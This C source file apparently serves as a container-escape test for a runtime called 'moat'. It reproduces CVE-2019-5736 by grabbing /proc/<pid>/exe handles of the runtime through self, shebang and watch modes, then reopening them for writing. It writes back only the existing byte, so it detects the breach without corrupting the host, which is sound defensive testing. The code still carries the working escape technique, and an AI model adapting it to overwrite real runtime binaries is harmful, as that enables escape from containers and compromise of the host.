/* CVE-2019-5736: overwrite the runtime binary through /proc/<pid>/exe.
 *
 *   exe_overwrite self           open /proc/self/exe and /proc/1/exe for writing
 *   exe_overwrite shebang PATH   PATH is a "#!/proc/self/exe" script in the rootfs: a child execs it
 *                                (the kernel then runs whatever binary the child was running before
 *                                the exec, i.e. the runtime if it were still the runtime), blocked
 *                                on a full stderr pipe; we grab its exe, kill it, and reopen the exe
 *                                for writing (nothing is written: a successful open is the breach)
 *   exe_overwrite watch MS       for MS milliseconds, grab /proc/<pid>/exe of every process whose
 *                                binary is not the rootfs's busybox (a `moat exec`-ed runtime still
 *                                setting up, or re-executed by a "#!/proc/self/exe" command), kill
 *                                it, and try the same write-open once nothing runs that binary
 */
#include "common.h"
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>

static void try_write_exe(const char *label, int fd)
{
	char path[64], name[128];
	struct stat st;
	int w;

	if (fstat(fd, &st) == 0)
		printf("%s-target dev=%lu ino=%lu\n", label, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	snprintf(name, sizeof name, "%s-reopen-write", label);
	w = open(path, O_WRONLY);
	step(name, w);
	if (w >= 0)
		close(w); /* a real attacker would write here; we must not corrupt the host */
}

static int self_test(void)
{
	step("self-exe-write", open("/proc/self/exe", O_WRONLY));
	step("init-exe-write", open("/proc/1/exe", O_WRONLY));
	return 0;
}

static int shebang(const char *script)
{
	int p[2], fd = -1;
	char buf[4096], path[64];
	pid_t pid;

	if (pipe2(p, O_NONBLOCK) < 0)
		return perror("pipe"), 1;
	memset(buf, 'x', sizeof buf);
	while (write(p[1], buf, sizeof buf) > 0)
		;
	pid = fork();
	if (pid == 0) {
		int fl = fcntl(p[1], F_GETFL);
		fcntl(p[1], F_SETFL, fl & ~O_NONBLOCK);
		dup2(p[1], 2);
		execl(script, script, (char *)NULL);
		_exit(127);
	}
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	/* Wait until the child has exec'd (its exe is no longer ours) and is blocked. */
	struct stat self, now;
	stat("/proc/self/exe", &self);
	for (int i = 0; i < 2000; i++) {
		if (stat(path, &now) == 0 && (now.st_ino != self.st_ino || now.st_dev != self.st_dev))
			break;
		usleep(1000);
	}
	usleep(50000);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (step("grab-exe", fd) == 0) {
		char target[512] = "";
		ssize_t n = readlink(path, target, sizeof target - 1);
		if (n > 0)
			target[n] = 0;
		printf("grab-exe-link %s\n", target);
		step("grab-exe-write-while-running", open(path, O_WRONLY));
	}
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	if (fd >= 0)
		try_write_exe("after-exit", fd);
	return 0;
}

static int watch(long ms)
{
	struct stat bb, self;
	struct timespec t0, t;
	int grabbed = 0;

	stat("/bin/busybox", &bb);
	stat("/proc/self/exe", &self);
	printf("watching\n");
	fflush(stdout);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &t);
		if ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 > ms)
			break;
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			char path[64], fdpath[64];
			struct stat st;
			int pid = atoi(de->d_name), fd, w = -1, e = 0;
			if (pid <= 1 || pid == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (stat(path, &st) < 0)
				continue;
			if ((st.st_ino == bb.st_ino && st.st_dev == bb.st_dev) || (st.st_ino == self.st_ino && st.st_dev == self.st_dev))
				continue;
			/* Refused while the process still has more capabilities than we do: retry next scan. */
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			grabbed++;
			printf("grabbed pid %d dev=%lu ino=%lu\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
			kill(pid, SIGKILL);
			/* Once no process runs the binary any more, it is no longer busy. */
			snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
			for (int i = 0; i < 300; i++) {
				w = open(fdpath, O_WRONLY);
				e = errno;
				if (w >= 0 || e != ETXTBSY)
					break;
				usleep(10000);
			}
			errno = e;
			step("watched-reopen-write", w);
			if (w >= 0) {
				/* Write back the byte that is there: the real attack, minus the damage. */
				char c;
				long rc = pread(fd, &c, 1, 0) == 1 ? pwrite(w, &c, 1, 0) : -1;
				step("watched-write", rc);
				close(w);
			}
			close(fd);
		}
		if (d)
			closedir(d);
	}
	printf("watch-done grabbed=%d\n", grabbed);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 2 && strcmp(argv[1], "self") == 0)
		return self_test();
	if (argc >= 3 && strcmp(argv[1], "shebang") == 0)
		return shebang(argv[2]);
	if (argc >= 3 && strcmp(argv[1], "watch") == 0)
		return watch(atol(argv[2]));
	fprintf(stderr, "usage: exe_overwrite self | shebang PATH | watch MS\n");
	return 2;
}
